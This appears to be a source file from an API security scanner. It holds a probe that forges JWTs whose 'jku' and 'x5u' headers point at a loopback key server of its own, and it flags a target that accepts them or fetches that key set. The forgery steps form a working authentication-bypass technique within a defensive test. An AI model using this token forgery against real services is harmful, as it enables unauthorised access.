import { createSign, generateKeyPairSync, type KeyObject } from 'node:crypto'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { ProbeCheck } from '../../check.ts'
import type { Run } from '../../run.ts'
import type { Verdict } from '../../verdict.ts'
import { notTested, PASSED, seen } from '../asked.ts'
import { fieldsWith, footingOf, guardsOf, isVerdict, sendBare, withFields, type Way } from '../attack.ts'
import { ruleOf } from '../rules.ts'
import { encoded, partsOf } from './jws.ts'

/** Sends tokens that name a place of ours for their keys, and looks whether anybody comes. */
export const tokJku: ProbeCheck = {
  kind: 'probe',
  rule: ruleOf('TOK-JKU'),
  mode: 'full',
  plan: (planning) =>
    guardsOf(planning)
      .filter(({ persona }) => persona.principal?.scheme === 'Bearer')
      .map((way) => ({
        key: `${way.operation.key} ${way.persona.name}`,
        operation: way.operation,
        persona: way.persona.name,
        sends: [`${way.operation.key} with tokens whose \`jku\` and \`x5u\` name a server on the loopback interface`],
        risk: 75,
        try: async (run) => lure(way, run),
      })),
}

interface Collector {
  readonly url: string
  readonly fetched: readonly string[]
  close(): void
}

async function lure(way: Way, run: Run): Promise<Verdict> {
  const footing = await footingOf(way, run)
  if (isVerdict(footing)) return footing
  const parts = partsOf(footing.credentials.value)
  if (parts === undefined || footing.credentials.kind !== 'bearer') return notTested('the token is no signed JWT')
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const collector = await collect(publicKey)
  try {
    for (const member of ['jku', 'x5u']) {
      const input = `${encoded({ ...parts.header, alg: 'RS256', kid: 'countersign', [member]: `${collector.url}/${member}` })}.${encoded(parts.claims)}`
      const token = `${input}.${createSign('sha256').update(input).sign(privateKey).toString('base64url')}`
      const observed = await sendBare(withFields(footing.request, ...fieldsWith(footing.credentials, token)), way.operation, run)
      const accepted = observed.class === 'granted'
      if (!accepted && collector.fetched.length === 0) continue
      return {
        level: collector.fetched.length > 0 ? 'proven' : 'strong',
        message: `${way.operation.key} ${accepted ? 'accepts a token signed by a key of ours' : 'asks'}, at the address that \`${member}\` of the token names`,
        expected: 'a refusal, and no request',
        observed: `${seen(observed)}, ${collector.fetched.length} requests at our address`,
        evidence: [footing.granted.observed.exchange, observed.exchange],
        ...(accepted ? { severity: 'critical' } : {}),
      }
    }
    return PASSED
  } finally {
    collector.close()
  }
}

/** A server that only the same machine reaches, with a key set of ours. */
async function collect(key: KeyObject): Promise<Collector> {
  const fetched: string[] = []
  const body = JSON.stringify({ keys: [{ ...key.export({ format: 'jwk' }), kid: 'countersign', alg: 'RS256', use: 'sig' }] })
  const server = createServer((request, response) => {
    fetched.push(request.url ?? '')
    response.setHeader('Content-Type', 'application/json')
    response.end(body)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  return {
    url: `http://127.0.0.1:${port}`,
    fetched,
    close: () => {
      server.closeAllConnections()
      server.close()
    },
  }
}
